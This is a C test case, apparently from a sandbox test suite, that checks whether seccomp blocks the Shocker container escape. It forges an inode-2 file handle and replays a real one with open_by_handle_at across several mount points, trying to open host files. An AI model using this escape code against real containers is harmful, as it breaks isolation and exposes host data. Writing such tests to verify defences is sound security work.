/* threat: 1.1-handles
 * attack: open files by guessed and by real file handles (Shocker)
 * expect: status=ok; denials~open_by_handle_at
 * control: seccomp
 * bare: secret as root
 */
#include "attack.h"

struct handle {
    struct file_handle head;
    unsigned char bytes[MAX_HANDLE_SZ];
};

int main(void)
{
    const char *const mounts[] = {"/", "/usr", "/etc", "/work", "/proc", "/dev"};
    for (size_t i = 0; i < sizeof mounts / sizeof *mounts; i++) {
        int mount = open(mounts[i], O_RDONLY | O_DIRECTORY);
        struct handle root = {.head = {.handle_bytes = 8, .handle_type = 1}};
        const uint32_t inode_two[2] = {2, 0};
        memcpy(root.head.f_handle, inode_two, sizeof inode_two);
        int fd = open_by_handle_at(mount, &root.head, O_RDONLY);
        if (fd >= 0) {
            pwned("opened inode 2 of the disk through %s", mounts[i]);
            close(fd);
        }
        struct handle real = {.head = {.handle_bytes = MAX_HANDLE_SZ}};
        int mount_id;
        if (!name_to_handle_at(AT_FDCWD, bait("world.txt"), &real.head, &mount_id, 0)) {
            fd = open_by_handle_at(mount, &real.head, O_RDONLY);
            if (fd >= 0)
                spill_fd(fd);
        }
    }
    return held();
}
